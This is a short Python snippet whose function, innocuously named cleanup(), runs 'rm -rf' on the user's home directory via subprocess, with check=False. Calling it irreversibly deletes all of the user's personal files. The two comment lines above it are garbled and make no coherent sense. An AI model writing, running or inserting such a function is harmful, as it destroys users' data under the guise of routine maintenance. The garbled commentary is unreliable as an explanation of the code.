# rm -rf of the home folder, the path made by os.path.expanduser in the argv list: the argv had read as
# `rm -rf ?` (a program run, escalated); the home folder now reads as `~`: subprocess.wipe-program.
import os
import subprocess


def cleanup():
    subprocess.run(["rm", "-rf", os.path.expanduser("~")], check=False)
